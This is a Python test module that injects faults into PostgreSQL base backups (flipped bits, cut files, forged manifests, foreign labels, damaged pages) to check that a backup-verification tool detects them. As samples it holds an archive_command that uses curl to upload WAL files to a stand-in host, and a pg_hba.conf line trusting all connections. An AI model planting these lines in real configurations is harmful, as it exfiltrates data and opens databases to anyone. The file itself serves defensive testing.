"""Faults of base backups."""

import hashlib
import json
import os
import re
import shutil
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

from opsproof.rehearsal.damage.damage import Area, Damage, NotApplicable
from opsproof.rehearsal.damage.stored import origin
from opsproof.rehearsal.damage.stored.lab import StoredLab, damage, detect, lab
from opsproof.rehearsal.damage.stored.usual import verify_bases
from opsproof.rehearsal.stored.notes import base_note
from opsproof.stack.clusters import Cluster

_WHOLE = "every_base_backup_is_whole"
_STORED = "every_base_backup_is_what_was_stored"
_BEGIN = "every_base_backup_says_where_it_begins"
_ORDERS = "no_base_backup_brings_orders_along"
_CLUSTER = "every_base_backup_is_of_this_cluster"
_PAGES = "page_checksums_are_on_and_hold"
_SELF = "every_base_backup_is_self_contained"
_OPEN = "no_base_backup_is_open_to_others"
_CHAIN = "the_chain_of_increments_is_whole"
_KEPT = "enough_whole_base_backups_are_kept"
_FRESH = "a_base_backup_is_fresh"
_NAMES = "every_base_backup_is_named_by_its_time"
_GONE = "no_base_backup_of_the_catalogue_is_gone"


def _first(lab: StoredLab) -> Path:
    """The first full one, on which the increment rests."""
    return lab.backups[0]


def _table(base: Path) -> Path:
    """The largest file of a table."""
    files = [path for path in base.glob("base/*/*") if path.name.isdigit()]
    return max(files, key=lambda path: path.stat().st_size)


def _wal_gone(lab: StoredLab) -> None:
    if lab.said.wal is not None:
        raise NotApplicable("the archive has what it needs as well")
    _covered(_removed(_segment))(lab)


def _segment(base: Path) -> Path:
    return next(path for path in sorted((base / "pg_wal").iterdir()) if len(path.name) == 24)


def _changed(find: Callable[[Path], Path], change: Callable[[bytes], bytes]) -> Callable[[StoredLab], None]:
    """Change a file of the first base backup."""

    def inject(lab: StoredLab) -> None:
        path = find(_first(lab))
        lab.put(path, change(path.read_bytes() if path.exists() else b""))

    return inject


def _file(name: str) -> Callable[[Path], Path]:
    return lambda base: base / name


def _removed(find: Callable[[Path], Path]) -> Callable[[StoredLab], None]:
    return lambda lab: find(_first(lab)).unlink()


def _flip(content: bytes) -> bytes:
    at = len(content) * 3 // 4
    return content[:at] + bytes([content[at] ^ 1]) + content[at + 1 :]


def _noted_anew(lab: StoredLab, base: Path) -> None:
    """Who damaged it could write to the catalogue, too."""
    whole = json.loads(lab.entry_of(base).read_bytes())
    note = base_note(whole["name"], base, datetime.now(UTC), datetime.now(UTC))
    lab.note(base, files=note["files"], sha256=note["sha256"], bytes=note["bytes"])


def _honest(name: str, change: Callable[[bytes], bytes | None]) -> Callable[[StoredLab], None]:
    """
    Change a file of the first base backup (None removes it) as if it had been so at the source: manifest, checksums and
    catalogue are right of it. `TABLE` stands for the largest table.
    """

    def inject(lab: StoredLab) -> None:
        base = _first(lab)
        found = [_table(base)] if name == "TABLE" else sorted(base.glob(name))
        if not found:
            raise NotApplicable(f"there is no {name} in it")
        path = found[-1]
        content = change(path.read_bytes())
        inside = path.relative_to(base).as_posix()
        manifest = json.loads((base / "backup_manifest").read_bytes())
        (entry,) = (one for one in manifest["Files"] if one["Path"] == inside)
        if content is None:
            path.unlink()
            manifest["Files"].remove(entry)
        else:
            lab.put(path, content)
            entry |= {
                "Size": len(content),
                "Checksum-Algorithm": "SHA256",
                "Checksum": hashlib.sha256(content).hexdigest(),
            }
        manifest.pop("Manifest-Checksum")
        body = f"{json.dumps(manifest)[:-1]},\n".encode()
        digest = hashlib.sha256(body).hexdigest()
        lab.put(base / "backup_manifest", body + f'"Manifest-Checksum": "{digest}"}}\n'.encode())
        _noted_anew(lab, base)

    return inject


def _without_configuration(lab: StoredLab) -> None:
    lab.at_least(2)
    _honest("postgresql.conf", lambda _: None)(lab)


def _covered(inject: Callable[[StoredLab], None]) -> Callable[[StoredLab], None]:
    def both(lab: StoredLab) -> None:
        base = _first(lab)
        inject(lab)
        _noted_anew(lab, base)

    return both


def _forged_manifest(lab: StoredLab) -> None:
    """A file is changed, and its line of the manifest too: the manifest proves itself, and nothing else."""
    base = _first(lab)
    table = _table(base)
    lab.put(table, _flip(table.read_bytes()))
    path = table.relative_to(base).as_posix().encode()
    text = (base / "backup_manifest").read_bytes()
    line = re.search(rb'\{ "Path": "' + path + rb'"[^}]*\}', text)
    assert line is not None
    text = text.replace(line[0], re.sub(rb', "Checksum-Algorithm".*"', b"", line[0]))
    body, _, _ = text.rpartition(b'"Manifest-Checksum"')
    digest = hashlib.sha256(body).hexdigest().encode()
    lab.put(base / "backup_manifest", body + b'"Manifest-Checksum": "' + digest + b'"}\n')


def _label_of_another(lab: StoredLab) -> None:
    one, other = lab.at_least(2)[:2]
    lab.put(one / "backup_label", (other / "backup_label").read_bytes())


def _swapped(lab: StoredLab) -> None:
    one, other = lab.at_least(2)[:2]
    aside = one.with_name("aside")
    one.rename(aside)
    other.rename(one)
    aside.rename(other)


def _stale(lab: StoredLab) -> None:
    lab.later = timedelta(seconds=lab.series.freshness, days=7)
    fresh = (lab.clock() + lab.later).timestamp()
    label = lab.newest / "backup_label"
    lab.put(label, label.read_bytes())
    os.utime(label, (fresh, fresh))


def _only_one(lab: StoredLab) -> None:
    for base in lab.at_least(2)[1:]:
        lab.entry_of(base).unlink()
        shutil.rmtree(base)


def _gone(lab: StoredLab) -> None:
    shutil.rmtree(lab.at_least(2)[1])


def _forgotten(lab: StoredLab) -> None:
    lab.entry_of(lab.newest).unlink()


def _only_a_hash(lab: StoredLab) -> None:
    entry = lab.entry_of(_first(lab))
    sha256 = json.loads(entry.read_bytes())["sha256"]
    entry.unlink()
    entry.with_suffix(".sha256").write_text(f"{sha256}  backup_manifest\n", encoding="ascii")


def _parent_gone(lab: StoredLab) -> None:
    if not next(lab.newest.glob("base/*/INCREMENTAL.*"), None):
        raise NotApplicable("the newest is no increment")
    lab.entry_of(_first(lab)).unlink()
    shutil.rmtree(_first(lab))


def _another_parent(lab: StoredLab) -> None:
    """The increment's label names the other full one as what it builds on; the hashes follow."""
    base = lab.newest
    other = (lab.at_least(2)[1] / "backup_label").read_text(encoding="ascii")
    start = re.search(r"START WAL LOCATION: (\S+)", other)
    assert start is not None
    label = re.sub(
        r"(INCREMENTAL FROM LSN: )\S+", rf"\g<1>{start[1]}", (base / "backup_label").read_text(encoding="ascii")
    )
    lab.put(base / "backup_label", label.encode())
    _noted_anew(lab, base)


def _increment_cut(lab: StoredLab) -> None:
    path = next(path for path in sorted(lab.newest.glob("base/*/INCREMENTAL.*")))
    lab.put(path, path.read_bytes()[:6])
    _noted_anew(lab, lab.newest)


def _linked(lab: StoredLab) -> None:
    table = _table(_first(lab))
    aside = lab.store / "aside"
    table.rename(aside)
    table.symlink_to(aside)


def _without_empty_folders(lab: StoredLab) -> None:
    for path in sorted(_first(lab).iterdir()):
        if path.is_dir() and not any(path.iterdir()):
            path.rmdir()


def _open(lab: StoredLab) -> None:
    _first(lab).chmod(0o777)


def _space_lost(lab: StoredLab) -> None:
    lab.put(_first(lab) / "tablespace_map", b"16999 /srv/space\n")


def _another_cluster(lab: StoredLab) -> None:
    cluster = origin.server(lab.grounds, "stored-other", lean=True)
    control = cluster.data / "global" / "pg_control"
    lab.put(_first(lab) / "global" / "pg_control", control.read_bytes())


def _whole_of_another(lab: StoredLab) -> None:
    cluster = origin.server(lab.grounds, "stored-other", lean=True)
    _taken(lab, cluster, lab.at_least(2)[1])


def _taken(lab: StoredLab, cluster: Cluster, base: Path, *options: str) -> None:
    """Put a fresh base backup of another server into the place of one, honestly noted but for its name."""
    shutil.rmtree(base)
    made = cluster.grounds.folder("stored-taken") / "other"
    shutil.rmtree(made, ignore_errors=True)
    cluster.copy_to(made, *options)
    shutil.move(made, base)
    known = origin.facts(cluster)
    now = datetime.now(UTC)
    lab.put(lab.entry_of(base), json.dumps(base_note(f"{lab.prefix}{base.name}", base, now, now, **known)).encode())


def _unchecked(lab: StoredLab) -> None:
    """A damaged page of a server without checksums, in an honest backup: every tool says that all is well."""
    cluster = origin.server(lab.grounds, "stored-unchecked", "--no-data-checksums", lean=True)
    _damage_a_page(cluster)
    _taken(lab, cluster, lab.at_least(2)[1])


def _damaged_at_the_source(lab: StoredLab) -> None:
    cluster = origin.server(lab.grounds, "stored-damaged", lean=True)
    _damage_a_page(cluster)
    _taken(lab, cluster, lab.at_least(2)[1], "--no-verify-checksums")


def _damage_a_page(cluster: Cluster) -> None:
    origin.work(cluster, datetime.now(UTC))
    cluster.sql("CHECKPOINT", database="shop")
    (path,) = cluster.sql("SELECT pg_relation_filepath('orders')", database="shop")[0]
    with (cluster.data / path).open("r+b") as file:
        file.seek(8192 + 8000)
        old = file.read(1)
        file.seek(8192 + 8000)
        file.write(bytes([old[0] ^ 0xFF]))


def _of_the_future(lab: StoredLab) -> None:
    base, at = lab.newest, lab.clock() + timedelta(days=2)
    to, entry = base.with_name(f"{at:%Y%m%dT%H%M%SZ}"), lab.entry_of(base)
    base.rename(to)
    entry.rename(lab.entry_of(to))
    lab.note(to, name=f"{lab.prefix}{to.name}")


def _append(text: bytes) -> Callable[[bytes], bytes]:
    return lambda content: content + text


def _one(
    name: str, source: str, english: str, korean: str, inject: Callable[[StoredLab], None], *caught_by: str
) -> Damage[StoredLab]:
    return damage(name, source, english, korean, inject, verify_bases, *caught_by)


_AUTO, _LABEL, _MANIFEST = _file("postgresql.auto.conf"), _file("backup_label"), _file("backup_manifest")
_EVIL = b"archive_command = 'curl -T %p https://example.org/'\n"

AREA = Area(
    "stored-bases",
    lab("bases"),
    detect,
    (
        _one(
            "base-bit-flipped",
            "A1",
            "One bit of a table file flipped",
            "테이블 파일의 비트 하나가 뒤집힘",
            _changed(_table, _flip),
            _WHOLE,
            _STORED,
            _PAGES,
        ),
        _one(
            "base-bit-flipped-and-noted",
            "A1",
            "One bit flipped, and the catalogue's hash noted anew",
            "비트가 뒤집히고 카탈로그 해시도 다시 기록됨",
            _covered(_changed(_table, _flip)),
            _WHOLE,
            _PAGES,
        ),
        _one(
            "base-manifest-forged",
            "A3",
            "A file changed, and the manifest so that it proves itself",
            "파일과 매니페스트가 함께 위조됨",
            _forged_manifest,
            _STORED,
            _WHOLE,
        ),
        _one(
            "base-file-cut",
            "A2",
            "A table file is cut off",
            "테이블 파일이 잘림",
            _changed(_table, lambda old: old[:-8192]),
            _WHOLE,
            _STORED,
        ),
        _one(
            "base-file-grown",
            "A2",
            "Bytes appended to a file",
            "파일에 바이트가 덧붙음",
            _changed(_table, _append(bytes(512))),
            _WHOLE,
            _STORED,
        ),
        _one("base-file-gone", "A2", "A table file is gone", "테이블 파일이 없음", _removed(_table), _WHOLE, _STORED),
        _one(
            "base-file-more",
            "A2",
            "A file too many",
            "불필요한 파일이 있음",
            _changed(_file("base/extra"), _append(b"x")),
            _WHOLE,
            _STORED,
        ),
        _one(
            "base-space-lost",
            "A2",
            "A tablespace of the map is not there",
            "tablespace_map의 테이블스페이스가 없음",
            _space_lost,
            _SELF,
            _STORED,
        ),
        _one(
            "base-manifest-grown",
            "A3",
            "A line feed behind the manifest",
            "매니페스트 뒤에 줄바꿈 추가",
            _changed(_MANIFEST, _append(b"\n")),
            _WHOLE,
            _STORED,
        ),
        _one(
            "base-manifest-gone",
            "A3",
            "The manifest is gone",
            "매니페스트가 없음",
            _removed(_MANIFEST),
            _WHOLE,
            _STORED,
        ),
        _one(
            "base-manifest-cut",
            "",
            "The manifest is cut off",
            "매니페스트가 잘림",
            _changed(_MANIFEST, lambda old: old[: len(old) // 2]),
            _WHOLE,
            _STORED,
        ),
        _one(
            "base-command-added",
            "A4",
            "An archive_command added to postgresql.auto.conf",
            "postgresql.auto.conf에 archive_command 추가",
            _changed(_AUTO, _append(_EVIL)),
            _STORED,
            _ORDERS,
        ),
        _one(
            "base-recovery-signal",
            "A4",
            "A recovery.signal lies in it, noted in the catalogue too",
            "recovery.signal이 들어 있음",
            _covered(_changed(_file("recovery.signal"), bytes)),
            _ORDERS,
        ),
        _one(
            "base-standby-signal",
            "A4",
            "A standby.signal lies in it",
            "standby.signal이 들어 있음",
            _changed(_file("standby.signal"), bytes),
            _ORDERS,
            _STORED,
        ),
        _one(
            "base-target-left",
            "A4",
            "A recovery_target_time lingers in postgresql.auto.conf, noted too",
            "recovery_target_time이 남아 있음",
            _covered(_changed(_AUTO, _append(b"recovery_target_time = '2020-01-01 00:00:00+00'\n"))),
            _ORDERS,
        ),
        _one(
            "base-access-opened",
            "A4",
            "pg_hba.conf lets everybody in",
            "pg_hba.conf가 모두를 허용",
            _changed(_file("pg_hba.conf"), _append(b"host all all all trust\n")),
            _STORED,
            _WHOLE,
        ),
        _one(
            "base-without-checksums",
            "A6",
            "A damaged page was copied from a server without checksums",
            "체크섬 없는 서버의 손상 페이지가 복사됨",
            _unchecked,
            _PAGES,
            _CLUSTER,
        ),
        _one(
            "base-damaged-at-its-source",
            "A7",
            "A damaged page was copied, checksums on, and not verified",
            "체크섬이 켜진 서버의 손상 페이지가 검증 없이 복사됨",
            _damaged_at_the_source,
            _PAGES,
        ),
        _one(
            "base-fates-gone",
            "",
            "pg_xact was all zeros when it was copied: manifest and hashes are right",
            "복사 시점에 pg_xact가 모두 0이었고 해시는 올바름",
            _honest("pg_xact/*", lambda old: bytes(len(old))),
            _WHOLE,
        ),
        _one(
            "base-map-gone",
            "",
            "A map of catalogues was all zeros when it was copied",
            "복사 시점에 pg_filenode.map이 모두 0이었음",
            _honest("base/*/pg_filenode.map", lambda old: bytes(len(old))),
            _WHOLE,
        ),
        _one(
            "base-map-flipped",
            "",
            "One bit of the map of shared catalogues had flipped when it was copied",
            "복사 시점에 공용 pg_filenode.map의 비트가 뒤집혀 있었음",
            _honest("global/pg_filenode.map", lambda old: old[:12] + bytes([old[12] ^ 1]) + old[13:]),
            _WHOLE,
        ),
        _one(
            "base-first-page-gone",
            "",
            "The first page of a table was all zeros when it was copied",
            "복사 시점에 테이블의 첫 페이지가 모두 0이었음",
            _honest("TABLE", lambda old: bytes(8192) + old[8192:]),
            _WHOLE,
        ),
        _one(
            "base-without-configuration",
            "",
            "postgresql.conf was not copied, and the manifest does not miss it",
            "postgresql.conf가 복사되지 않았고 매니페스트에도 없음",
            _without_configuration,
            _WHOLE,
        ),
        _one(
            "base-job-stopped",
            "A8",
            "No base backup for eight days; a file was touched",
            "8일째 베이스 백업 없음",
            _stale,
            _FRESH,
        ),
        _one(
            "base-parent-gone",
            "A20",
            "The full backup that an increment builds on is gone",
            "증분의 기반 백업이 없음",
            _parent_gone,
            _CHAIN,
        ),
        _one(
            "base-parent-another",
            "A20",
            "An increment names another backup as its parent",
            "증분이 다른 백업을 기반으로 지목",
            _another_parent,
            _WHOLE,
        ),
        _one(
            "base-increment-cut",
            "A20",
            "A file of an increment is cut off, noted so",
            "증분 파일이 잘림",
            _increment_cut,
            _WHOLE,
            _CHAIN,
        ),
        _one(
            "base-label-gone",
            "A21",
            "backup_label is gone",
            "backup_label이 없음",
            _removed(_LABEL),
            _BEGIN,
            _STORED,
            _WHOLE,
        ),
        _one(
            "base-label-cut",
            "A21",
            "backup_label is cut off, noted so",
            "backup_label이 잘림",
            _covered(_changed(_LABEL, lambda old: old[:60])),
            _BEGIN,
        ),
        _one(
            "base-label-of-another",
            "A21",
            "backup_label of another backup, noted so",
            "다른 백업의 backup_label",
            _covered(_label_of_another),
            _BEGIN,
        ),
        _one("bases-removed", "A23", "A single base backup is left", "베이스 백업이 하나만 남음", _only_one, _KEPT),
        _one(
            "base-removed",
            "A23",
            "A base backup is gone, and still in the catalogue",
            "베이스 백업이 사라졌으나 카탈로그에는 있음",
            _gone,
            _GONE,
        ),
        _one(
            "base-not-noted",
            "",
            "The newest base backup is not in the catalogue",
            "최신 베이스 백업이 카탈로그에 없음",
            _forgotten,
            _STORED,
            _FRESH,
        ),
        _one(
            "base-half-noted",
            "",
            "The catalogue has but the hash of the manifest",
            "카탈로그에 매니페스트 해시만 있음",
            _only_a_hash,
            _STORED,
        ),
        _one("bases-swapped", "", "Two base backups swapped", "두 베이스 백업이 뒤바뀜", _swapped, _STORED, _BEGIN),
        _one(
            "base-wal-flipped",
            "",
            "One bit of a WAL segment inside flipped",
            "내부 WAL 세그먼트의 비트가 뒤집힘",
            _changed(_segment, lambda old: bytes([old[0] ^ 1]) + old[1:]),
            _STORED,
        ),
        _one(
            "base-wal-gone",
            "",
            "The WAL inside is gone, noted so",
            "내부 WAL이 없음",
            _wal_gone,
            _WHOLE,
        ),
        _one(
            "base-control-of-another",
            "",
            "pg_control of another cluster",
            "다른 클러스터의 pg_control",
            _another_cluster,
            _CLUSTER,
            _STORED,
            _WHOLE,
        ),
        _one(
            "base-of-another-cluster",
            "",
            "A whole base backup of another cluster, honestly noted",
            "다른 클러스터의 베이스 백업",
            _whole_of_another,
            _CLUSTER,
        ),
        _one(
            "base-control-flipped",
            "",
            "pg_control is damaged, noted so",
            "pg_control 손상",
            _covered(_changed(_file("global/pg_control"), lambda old: old[:16] + b"\xff" * 8 + old[24:])),
            _CLUSTER,
            _WHOLE,
        ),
        _one(
            "base-version-changed",
            "",
            "PG_VERSION says another version",
            "PG_VERSION이 다른 버전",
            _changed(_file("PG_VERSION"), lambda _: b"11\n"),
            _STORED,
            _WHOLE,
            _CLUSTER,
        ),
        _one(
            "base-link",
            "",
            "A table file is a link to a place outside",
            "테이블 파일이 외부 링크",
            _linked,
            _SELF,
            _STORED,
        ),
        _one(
            "base-folders-missing",
            "",
            "The copy left out empty folders",
            "빈 폴더가 복사에서 빠짐",
            _without_empty_folders,
            _SELF,
        ),
        _one("base-open", "", "Everybody may enter the folder", "폴더가 모두에게 열려 있음", _open, _OPEN),
        _one(
            "base-of-the-future",
            "",
            "A base backup is named by a time to come",
            "베이스 백업 이름이 미래 시각",
            _of_the_future,
            _NAMES,
        ),
    ),
)
